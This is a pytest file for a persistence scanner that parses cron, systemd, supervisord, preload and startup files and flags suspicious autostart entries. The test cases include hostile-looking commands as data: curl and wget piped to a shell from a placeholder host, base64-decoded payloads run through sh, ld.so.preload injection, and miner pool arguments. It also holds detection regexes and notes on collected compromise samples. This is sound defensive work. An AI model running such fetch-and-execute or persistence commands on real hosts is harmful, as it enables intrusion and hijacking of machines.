"""Places that start programs: what is read from each format, and what a scan keeps of a node."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gpuwarden.host import Host
from gpuwarden.model import (
    CgroupPlacement,
    Container,
    Executable,
    Gap,
    PersistenceEntry,
    Process,
)
from gpuwarden.rules.respawn import oddities
from gpuwarden.sensors.autostarts import cron, startup_files, supervisord, systemd_units
from gpuwarden.sensors.autostarts.entry_selection import (
    _STANDS_OUT,
    Selection,
    copies_and_deletes,
    fetches,
    stands_out,
)
from gpuwarden.sensors.autostarts.place_reader import PlaceFile
from gpuwarden.sensors.persistence import (
    from_containers,
    parse_crontab,
    parse_homes,
    parse_network_mounts,
    parse_preload,
    parse_shell_profile,
    parse_supervisord,
    parse_unit,
    read,
    within_budget,
)
from gpuwarden.sensors.process.fan_out import in_child
from gpuwarden.sensors.seen import Seen, StatLine

REPOSITORY = Path(__file__).parents[2]
NODE = REPOSITORY / "tests" / "hosts" / "persistence-node"
CASES = REPOSITORY.parent / "shared" / "cases" / "f"


def _case(name: str) -> str:
    path = CASES / name
    if not path.exists():
        pytest.skip("the collected cases are not here")
    return path.read_text()


def _process(pid: int = 500, **fields: object) -> Process:
    return msgspec.structs.replace(Process(pid=pid, start_time_ticks=1), **fields)


def _scan(root: Path, *processes: Process) -> tuple[list[PersistenceEntry], list[Gap]]:
    seen = Seen()
    for process in processes:
        seen.add(process)
    facts = list(read(Host(str(root)), seen))
    return (
        [fact for fact in facts if isinstance(fact, PersistenceEntry)],
        [fact for fact in facts if isinstance(fact, Gap)],
    )


def _of(entries: list[PersistenceEntry], path: str) -> list[PersistenceEntry]:
    return [entry for entry in entries if entry.path == path]


# -------------------------------------------------------------------- collected cases


def test_a_hacked_hosts_crontab_gives_all_four_jobs() -> None:
    entries = parse_crontab(
        _case("f12-cron-root-processhider.cron"), "/var/spool/cron/crontabs/root", False
    )
    assert [entry.commands[0].split()[0] for entry in entries] == [
        "/sbin/httpss",
        "echo",
        "/usr/lib/mysql/mysql",
        "cp",
    ]
    assert {(entry.user, entry.schedule) for entry in entries} == {("root", "* * * * *")}
    assert [stands_out(entry.commands[0]) for entry in entries] == [False, True, False, True]


def test_a_hidden_units_loader_is_one_command() -> None:
    (entry,) = parse_unit(_case("f14-systemd-dot-sh.service"), "/etc/systemd/system/x.service")
    assert entry.commands[0].startswith("/bin/bash -c 'cp -f -r -- /bin/.funzip /bin/.sh")
    assert "KillMode=process" in entry.text
    assert "Restart=always" in entry.text
    assert entry.line == 9
    assert stands_out(entry.commands[0])


def test_a_hidden_supervisor_program_keeps_its_name_and_directory() -> None:
    (entry,) = parse_supervisord(_case("f16-supervisor-dot-sh.conf"), "/etc/.supervisor/a.conf")
    assert (entry.unit, entry.enabled) == (".sh", True)
    assert "startretries=999999999" in entry.text
    assert "/etc/spts /bin/.sh" in entry.commands[0]


def test_a_miners_cron_line_keeps_its_arguments() -> None:
    (entry,) = parse_crontab(_case("f17-cron-sshd-update.cron"), "/var/spool/cron/root", False)
    assert entry.schedule == "*/5 * * * *"
    assert entry.commands[0].split()[:3] == ["/root/.ssh/sshd-update", "--algo", "ETCHASH"]


def test_every_preloaded_library_is_an_entry_whether_benign_or_not() -> None:
    benign = parse_preload(_case("f21-ld-so-preload-benign.txt"))
    assert [entry.commands[0].rpartition("/")[2] for entry in benign] == [
        "libxalt_init.so",
        "libsnoopy.so",
    ]
    hidden = parse_preload(_case("f04-wildrig-hidden.txt").splitlines()[-1])
    assert [entry.commands for entry in hidden] == [("/usr/local/lib/libprocesshider.so",)]


# -------------------------------------------------------------------- formats


@pytest.mark.parametrize(
    ("line", "system", "expected"),
    [
        ("@reboot /opt/x -a", False, ("@reboot", "mira", "/opt/x -a")),
        ("@reboot root /opt/x -a", True, ("@reboot", "root", "/opt/x -a")),
        (
            "*/5 1-3,7 * jan mon-fri\troot\t/opt/x",
            True,
            ("*/5 1-3,7 * jan mon-fri", "root", "/opt/x"),
        ),
        ("  0 0 1 1 0   /opt/x %in", False, ("0 0 1 1 0", "mira", "/opt/x %in")),
        ("0~9 4 * * * /opt/x", False, ("0~9 4 * * *", "mira", "/opt/x")),
        ("-*/2 * * * * root /opt/x", True, ("*/2 * * * *", "root", "/opt/x")),
        ("MAILTO=root", False, None),
        ("PATH = /bin", False, None),
        ("# 0 0 1 1 0 /opt/x", False, None),
        ("0 0 1 1 /opt/x", False, None),
        ("* * * * * root", True, None),
        ("* * * * *", False, None),
    ],
)
def test_crontab_lines(line: str, system: bool, expected: tuple[str, str, str] | None) -> None:
    entries = parse_crontab(line, "/var/spool/cron/crontabs/mira", system)
    found = [(e.schedule, e.user, e.commands[0]) for e in entries]
    assert found == ([] if expected is None else [expected])


def test_a_crontab_that_preloads_a_library_says_so_without_a_command() -> None:
    (entry,) = parse_crontab("LD_PRELOAD=/usr/lib/x.so\nA=b\n", "/etc/crontab", True)
    assert (entry.text, entry.commands) == ("LD_PRELOAD=/usr/lib/x.so", ())


def test_unit_settings_reset_continue_and_comment() -> None:
    text = (
        "[Unit]\nExecStart=/not/here\n[Service]\nExecStart=/first\nExecStart=\n"
        "ExecStart=-@/second arg0 \\\n# between\n  --flag\nExecStartPre=+/before\nUser=u\n"
    )
    (entry,) = parse_unit(text, "/etc/systemd/system/a.service")
    assert entry.commands == ("/second arg0 --flag", "/before")
    assert (entry.user, entry.unit, entry.enabled, entry.line) == ("u", "a.service", None, 4)


def test_a_unit_that_starts_nothing_is_no_entry_and_a_drop_in_belongs_to_its_unit() -> None:
    assert parse_unit("[Service]\nRestart=always\n", "/x/a.service") == []
    assert parse_unit("[Unit]\nDescription=t\n", "/x/a.target") == []
    (entry,) = parse_unit(
        '[Service]\nEnvironment="LD_PRELOAD=/l.so" SECRET=s\n', "/x/a.service.d/o.conf"
    )
    assert (entry.unit, entry.commands) == ("a.service", ())
    assert "LD_PRELOAD=/l.so" in entry.text
    assert "SECRET" not in entry.text


def test_a_timer_names_its_schedule_and_what_it_starts() -> None:
    (entry,) = parse_unit("[Timer]\nOnUnitActiveSec=1min\n[Install]\nA=b\n", "/x/beat.timer")
    assert (entry.kind, entry.unit, entry.schedule, entry.enabled) == (
        "systemd-timer",
        "beat.service",
        "OnUnitActiveSec=1min",
        False,
    )


@pytest.mark.parametrize(
    ("arguments", "config"),
    [
        (["-n", "-c", "/a/b.conf"], "/a/b.conf"),
        (["-c/a/b.conf"], "/a/b.conf"),
        (["--configuration=/a/b.conf"], "/a/b.conf"),
        (["--configuration", "b.conf"], "b.conf"),
        (["-c"], None),
        (["-n"], None),
    ],
)
def test_the_configuration_that_a_supervisord_was_started_with(
    arguments: list[str], config: str | None
) -> None:
    assert supervisord.config_argument(arguments) == config


def test_shell_lines_are_joined_and_comments_are_none() -> None:
    entries = parse_shell_profile("# c\n\na \\\n  b\nexit 0\nc\\", "/etc/rc.local", "rc-local")
    assert [(e.line, e.commands[0]) for e in entries] == [(3, "a b"), (6, "c")]


def test_homes_are_distinct_directories_and_network_mounts_are_known() -> None:
    passwd = (
        "a:x:1:1::/home/a:/b\nb:x:2:2::/home/a/:/b\nn:x:3:3::/nonexistent:/b\nr:x:0:0::/:/b\nbad\n"
    )
    assert [(home.user, home.path) for home in parse_homes(passwd)] == [("a", "/home/a")]
    mounts = "s:/h /home\\040x nfs4 rw 0 0\nsshfs /m fuse.sshfs rw 0 0\n/dev/a / ext4 rw 0 0\nx\n"
    assert parse_network_mounts(mounts) == {"/home x", "/m"}


def test_containers_that_something_starts_again() -> None:
    containers = [
        Container(id="a", runtime="docker", restart_policy="always", entrypoint=("/x", "-y")),
        Container(id="b", runtime="docker", restart_policy="no"),
        Container(id="c", runtime="docker"),
        Container(id="d", runtime="podman", restart_policy="on-failure:5"),
        Container(id="e", runtime="containerd", pod_owner="ReplicaSet/web", pod_namespace="ml"),
    ]
    found = [(e.kind, e.path, e.text, e.commands) for e in from_containers(containers)]
    assert found == [
        ("container-restart", "docker:a", "restart policy always", ("/x -y",)),
        ("container-restart", "podman:d", "restart policy on-failure:5", ()),
        ("pod-controller", "containerd:e", "ml/ReplicaSet/web", ()),
    ]


# -------------------------------------------------------------------- a recorded node


def test_a_node_gives_each_place_once() -> None:
    entries, gaps = _scan(NODE)
    assert [(e.kind, e.path.rpartition("/")[2], e.line) for e in entries] == [
        ("cron", "crontab", 3),
        ("cron", "crontab", 4),
        ("cron", "refresh", 1),
        ("cron", "refresh", 2),
        ("cron", "refresh", 3),
        ("cron", "mira", 1),
        ("cron", "mira", 2),
        ("cron", "anacrontab", 1),
        ("cron", "anacrontab", 2),
        ("at", "a0000101abcdef", 11),
        ("cron", "telling", 4),
        ("systemd-timer", "nightly.timer", 2),
        ("systemd-service", "nightly-run.service", 3),
        ("systemd-service", "odd.service", 3),
        # Kept with its drop-in, which stands out.
        ("systemd-service", "ssh.service", 4),
        ("systemd-service", "10-extra.conf", 2),
        ("systemd-service", "notes.service", 2),
        ("systemd-generator", "late", None),
        *[("preload", "ld.so.preload", 2)] * 3,
        ("rc-local", "rc.local", 2),
        ("shell-profile", "site.sh", 2),
        ("udev-rule", "99-usb.rules", 1),
        ("shell-profile", ".profile", 2),
        ("ssh-rc", "rc", 1),
        ("autostart", "sync.desktop", 3),
        ("supervisord", "supervisord.conf", 7),
        ("supervisord", "a.part", 1),
    ]
    (gap,) = gaps
    assert (gap.what, gap.count) == ("home directories", 1)
    assert "network" in gap.reason


def test_a_timer_carries_its_services_commands_and_gives_it_its_schedule() -> None:
    entries, _ = _scan(NODE)
    (timer,) = _of(entries, "/etc/systemd/system/nightly.timer")
    (service,) = _of(entries, "/etc/systemd/system/nightly-run.service")
    assert timer.unit == service.unit == "nightly-run.service"
    assert timer.commands == service.commands == ("/opt/nightly/run run --all",)
    assert service.schedule == timer.schedule == "OnCalendar=daily; OnBootSec=2min"
    assert timer.enabled is True
    assert service.user == "mira"
    (ssh,) = _of(entries, "/usr/lib/systemd/system/ssh.service")
    assert ssh.enabled is True
    (notes,) = _of(entries, "/home/mira/.config/systemd/user/notes.service")
    assert notes.enabled is False


def test_an_at_job_keeps_its_commands_and_none_of_its_environment() -> None:
    entries, _ = _scan(NODE)
    (job,) = [entry for entry in entries if entry.kind == "at"]
    assert job.commands == ("/opt/render/worker.sh --late",)
    assert (job.user, job.owner_uid) == ("mira", 1000)


@pytest.mark.parametrize(
    ("process", "kept"),
    [
        (_process(exe=Executable(path="/opt/render/worker.sh")), True),
        (_process(argv=("worker.sh", "-x")), True),
        (_process(argv=("bash", "/opt/render/worker.sh")), True),
        (_process(cwd="/opt/render"), True),
        (_process(cgroup=CgroupPlacement(unit="render.service")), True),
        (_process(exe=Executable(path="/usr/bin/bash"), argv=("bash", "train.sh"), cwd="/"), False),
        (_process(cwd="/opt"), False),
        (_process(cwd="/opt/rend"), False),
        (_process(argv=("--", "")), False),
    ],
)
def test_a_packaged_unit_is_kept_when_it_names_a_process(process: Process, kept: bool) -> None:
    entries, _ = _scan(NODE, process)
    assert bool(_of(entries, "/usr/lib/systemd/system/render.service")) is kept


def test_scripts_lines_that_name_a_process_are_kept() -> None:
    entries, _ = _scan(NODE, _process(exe=Executable(path="/usr/sbin/stock")))
    assert [entry.line for entry in _of(entries, "/etc/init.d/stock")] == [None, 2]
    entries, _ = _scan(NODE, _process(exe=Executable(path="/opt/other")))
    assert not _of(entries, "/etc/init.d/stock")


@pytest.mark.parametrize("relative", [False, True])
def test_the_file_of_a_running_supervisord_is_read(relative: bool) -> None:
    argument = "odd/sv.ini" if relative else "/opt/odd/sv.ini"
    process = _process(77, argv=("python3", "/usr/bin/supervisord", "-c", argument), cwd="/opt")
    entries, _ = _scan(NODE, process)
    (entry,) = _of(entries, "/opt/odd/sv.ini")
    assert entry.unit == "elsewhere"


def test_a_supervisord_that_no_subject_descends_from_is_found_by_its_command_line(
    tmp_path: Path,
) -> None:
    (tmp_path / "proc/88").mkdir(parents=True)
    (tmp_path / "proc/88/cmdline").write_bytes(b"python3\0/usr/bin/supervisord\0-c\0/x.conf\0")
    (tmp_path / "x.conf").write_text("[program:p]\ncommand=/p\n")
    seen = Seen()
    seen.table[88] = StatLine(88, "supervisord", "S", 1, 88, 88, 0, 0, 5, 1, 1)
    entries = [
        fact for fact in read(Host(str(tmp_path)), seen) if isinstance(fact, PersistenceEntry)
    ]
    assert [entry.unit for entry in entries] == ["p"]


# -------------------------------------------------------------------- selection


@pytest.mark.parametrize(
    ("path", "links_python", "kept"),
    [
        ("/opt/x/python3", False, ["python3 -o pool", "/opt/x/python3 -o pool"]),
        ("/opt/x/sh", None, ["/opt/x/sh -o pool"]),
        ("/opt/conda/bin/python3", True, []),
        ("/usr/bin/python3", True, []),
        ("/usr/bin/sh", None, []),
    ],
)
def test_a_generic_name_is_looked_for_only_where_its_file_is_in_a_place_of_its_own(
    path: str, links_python: bool | None, kept: list[str]
) -> None:
    script = "python3 -o pool\n/opt/x/python3 -o pool\n/opt/x/sh -o pool\n/usr/bin/other\n"
    selection = Selection([_process(exe=Executable(path=path, links_python=links_python))])
    assert [line for _, line in selection.lines(script)] == kept


def test_a_packaged_script_that_starts_a_miner_called_like_an_interpreter_is_kept(
    tmp_path: Path,
) -> None:
    (tmp_path / "etc/init.d").mkdir(parents=True)
    (tmp_path / "etc/init.d/x").write_text("#!/bin/sh\nPATH=/opt/x:/bin\npython3 -o pool\n")
    exe = Executable(path="/opt/x/python3", links_python=False)
    (entry,), _ = _scan(tmp_path, _process(exe=exe))
    assert (entry.line, entry.search_path) == (3, "/opt/x:/bin")


@pytest.mark.parametrize(
    "line",
    [
        "/usr/lib/.hidden/run",
        "/dev/shm/x",
        "cp /a /b && /b; rm /b",
        "curl -s http://192.0.2.1/x | bash",
        "bash <(wget -qO- http://192.0.2.1)",
        "echo aGk= | base64 -d | sh",
        "echo /l.so > /etc/ld.so.preload",
        "x -o stratum+tcp://pool.example:3333",
        "x --algo RX --pool p.example:1",
        "nohup x &",
        "exec -a kworker x",
    ],
)
def test_forms_that_are_kept(line: str) -> None:
    assert stands_out(line)


@pytest.mark.parametrize(
    "line",
    [
        ". ~/.bashrc",
        'test -r "$HOME/.cargo/env" && . "$HOME/.cargo/env"',
        "/data/stratum/train.csv",
        "/usr/bin/cupsd -l",
        "cd ./x && ../y",
    ],
)
def test_forms_that_are_ordinary(line: str) -> None:
    assert not stands_out(line)


PIECES = st.sampled_from(
    [
        "/",
        ".",
        "tmp/",
        "cp",
        "rm",
        "&&",
        ";",
        "|",
        " ",
        "\n",
        "curl",
        "wget",
        "-O",
        "http:",
        "LD_PRELOAD",
        "exec",
        "-a",
        "base64",
        "openssl",
        "enc",
        "#",
        "x",
        "stratum",
        "+",
        "1",
        "--pool",
        "/dev/tcp/",
        "crontab",
        "chattr",
        "shm/",
        "/run/",
        "$(",
        "`",
        "ld.so.preload",
        "worker",
        "\t",
        "--url",
        "axel",
    ]
)
SCRIPTS = st.lists(PIECES | st.text(max_size=3), max_size=40).map("".join)


@given(SCRIPTS)
def test_looking_for_marks_first_finds_what_the_expression_alone_finds(text: str) -> None:
    assert stands_out(text) == (
        _STANDS_OUT.search(text) is not None or copies_and_deletes(text) or fetches(text)
    )


@given(SCRIPTS)
def test_selected_lines_are_those_that_line_by_line_reading_selects(text: str) -> None:
    selection = Selection([_process(exe=Executable(path="/x/worker"), cwd="/run/x")])
    plain = [
        (number, line.strip())
        for number, line in enumerate(text.split("\n"), 1)
        if line.strip() and line.strip()[0] != "#" and selection.wants_text(line.strip())
    ]
    assert list(selection.lines(text)) == plain


def test_too_many_processes_for_marks_select_the_same_lines() -> None:
    many = [_process(n, exe=Executable(path=f"/opt/p{n}/tool{n}")) for n in range(1200)]
    text = "true\n/opt/p7/tool7 -x\n# tool8\n"
    assert list(Selection(many).lines(text)) == [(2, "/opt/p7/tool7 -x")]
    assert list(Selection(many[:10]).lines(text)) == [(2, "/opt/p7/tool7 -x")]


# -------------------------------------------------------------------- any bytes

FRAGMENTS = st.sampled_from(
    [
        "[Service]",
        "[program:x]",
        "[include]",
        "files=",
        "ExecStart=",
        "\nExecStart=",
        "\nWorkingDirectory=",
        "\\\n",
        "\n",
        "=",
        ":",
        " ",
        "#",
        ";",
        "* * * * * ",
        "@reboot ",
        "root ",
        "command=",
        "[Timer]",
        "OnCalendar=",
        "Exec=",
        "LD_PRELOAD=",
        "PATH=",
        "environment=",
        "directory=",
        "\nExecSearchPath=",
        "#!/bin/sh\n",
        'RUN+="x"',
        "\x00",
        "\t",
        "[",
        "]",
        "%(here)s",
        "*",
    ]
)
ANY_TEXT = st.lists(FRAGMENTS | st.text(max_size=6), max_size=40).map("".join) | st.binary().map(
    lambda raw: raw.decode("utf-8", "backslashreplace")
)


@pytest.mark.parametrize(
    "parse",
    [
        lambda text: parse_crontab(text, "/etc/crontab", True),
        lambda text: parse_crontab(text, "/var/spool/cron/x", False),
        lambda text: cron.parse_anacrontab(text, "/etc/anacrontab"),
        lambda text: [entry for entry in [cron.parse_at_job(text, "/a")] if entry],
        lambda text: parse_unit(text, "/x/a.service"),
        lambda text: parse_unit(text, "/x/a.timer"),
        lambda text: parse_supervisord(text, "/x/a.conf"),
        parse_preload,
        lambda text: parse_shell_profile(text, "/etc/profile"),
        lambda text: startup_files.parse_autostart(text, "/x.desktop"),
        lambda text: startup_files.parse_udev_rules(text, "/x.rules"),
    ],
)
@given(text=ANY_TEXT)
def test_any_text_gives_bounded_entries(
    parse: Callable[[str], list[PersistenceEntry]], text: str
) -> None:
    for entry in parse(text):
        assert msgspec.json.decode(msgspec.json.encode(entry), type=PersistenceEntry) == entry
        assert len(entry.text) <= 2000
        assert all(0 < len(command) <= 2000 for command in entry.commands)
        assert 0 < len(entry.search_path or "x") <= 2000 and 0 < len(entry.directory or "x") <= 2000


@given(st.lists(FRAGMENTS | PIECES, max_size=40).map("".join))
def test_a_quick_look_at_a_unit_misses_nothing_that_parsing_selects(text: str) -> None:
    selection = Selection([_process(exe=Executable(path="/x/worker"), cwd="/run/x")])
    file = PlaceFile("/usr/lib/systemd/system/a.service", "[Service]\n" + text, 0)
    if any(map(selection.wants, systemd_units.parse_file(file))):
        assert systemd_units.may_be_wanted(file, selection)


@given(ANY_TEXT)
def test_any_text_gives_includes_homes_and_mounts(text: str) -> None:
    assert isinstance(supervisord.parse_includes(text), list)
    assert isinstance(parse_homes(text), list)
    assert isinstance(parse_network_mounts(text), frozenset)


def test_a_very_long_table_is_cut_with_a_gap(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/crontab").write_text("* * * * * root /opt/x\n" * 3000)
    entries, gaps = _scan(tmp_path)
    assert len(entries) == 1000
    assert "only the first 1000 jobs" in gaps[0].reason


def test_directories_of_the_same_inode_are_listed_once(tmp_path: Path) -> None:
    unit = tmp_path / "usr/lib/systemd/system/a.service"
    unit.parent.mkdir(parents=True)
    unit.write_text("[Service]\nExecStart=/dev/shm/a\n")
    (tmp_path / "lib").symlink_to("usr/lib")
    entries, _ = _scan(tmp_path)
    assert [entry.path for entry in entries] == ["/usr/lib/systemd/system/a.service"]
    assert systemd_units.SYSTEM_DIRECTORIES.index("/lib/systemd/system") > 0


# ------------------------------------------------------------------ hidden programs


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/flock -n /tmp/.lock /usr/bin/backup",
        "touch /var/lib/misc/.stamp",
        "rsync -a -e 'ssh -i /home/alice/.ssh/id' /srv backup:/srv",
        "/home/alice/.ollama/bin/ollama serve",
        "/root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null",
        ". ~/.profile; /opt/app/run",
        "test -f /.dockerenv || /usr/bin/app",
    ],
)
def test_a_hidden_file_among_the_arguments_of_an_honest_job_is_no_oddity(command: str) -> None:
    entry = PersistenceEntry(kind="cron", path="/etc/cron.d/x", text=command, commands=(command,))
    assert oddities(entry) == ()


@pytest.mark.parametrize(
    "command",
    [
        "/usr/lib/.x/run",
        "cd /srv; nohup /srv/.x/run >/dev/null 2>&1 &",
        "bash -c '/srv/.x/run'",
        "A=1 /srv/.run",
        "test -x /srv/a || . /srv/.run",
        "chmod +x /srv/.run",
        "@/home/alice/.x/python3 -m y",
        "python3 -u /srv/.y/z.py",
        "if true; then /srv/.x/run; fi",
        "su alice -c /srv/.x/run",
        "flock -n /tmp/lock /srv/.x/run",
        "timeout 60 /srv/.x/run",
    ],
)
def test_a_hidden_program_is_an_oddity(command: str) -> None:
    entry = PersistenceEntry(kind="cron", path="/etc/cron.d/x", text=command, commands=(command,))
    assert any("hidden file" in odd for odd in oddities(entry))


def test_a_hidden_library_that_a_crontab_sets_for_its_jobs_is_an_oddity() -> None:
    (entry,) = parse_crontab("LD_PRELOAD=/usr/lib/.x/a.so", "/var/spool/cron/alice", system=False)
    assert any("hidden file" in odd for odd in oddities(entry))


# ------------------------------------------------------------------ texts made to hurt

SLOW_COPY = re.compile(r"\bcp\b[^\n]{1,400}(?:&&|;|\|\|)[^\n]{0,400}\brm\b")
SLOW_FETCH = re.compile(
    r"\b(?:curl|wget|aria2c|axel)\b[^\n]{0,600}(?:\||&&|;|\$\(|-O|-o|`|https?:)"
)
TOKENS = (
    "cp",
    "rm",
    "curl",
    "wget",
    ";",
    "&&",
    "||",
    "|",
    "$(",
    "-O",
    "`",
    "http:",
    " ",
    "\n",
    "x",
)
TEXTS = st.lists(st.sampled_from([*TOKENS, "y" * 199, "z" * 398]), max_size=14).map("".join)


@given(TEXTS)
def test_one_pass_finds_what_the_plain_expressions_find(text: str) -> None:
    assert copies_and_deletes(text) == (SLOW_COPY.search(text) is not None)
    assert fetches(text) == (SLOW_FETCH.search(text) is not None)


@pytest.mark.parametrize(
    "piece", ["cp;", "cp x; ", "curl ", "wget -x ", "* * * * * root cp a&&b\n"]
)
def test_a_file_made_to_hurt_an_expression_is_read_all_the_same(piece: str) -> None:
    """The deadline only ends a test that would hang."""
    text = (piece * (1 << 20))[: 1 << 20]
    entry = PersistenceEntry(kind="cron", path="/x", text=text[:2000], commands=(text[:2000],) * 32)

    def work() -> bytes:
        return repr((list(Selection().lines(text)), oddities(entry))).encode()[:64]

    assert in_child(work, 60)


def test_one_users_text_is_bounded_and_costs_nobody_else_a_place() -> None:
    flood = [
        PersistenceEntry(kind="at", path=f"/var/spool/{n}", text="x" * 2000, owner_uid=1000)
        for n in range(100)
    ]
    other = PersistenceEntry(kind="cron", path="/var/spool/other", text="y", owner_uid=1001)
    roots = PersistenceEntry(kind="cron", path="/etc/crontab", text="z" * 2000, owner_uid=0)
    facts = list(within_budget([*flood, other, roots]))
    kept = [f for f in facts if isinstance(f, PersistenceEntry)]
    assert kept == [*flood[:32], other, roots]
    gap = next(f for f in facts if isinstance(f, Gap))
    assert (gap.what, gap.count) == ("autostart entries of uid 1000", 68)
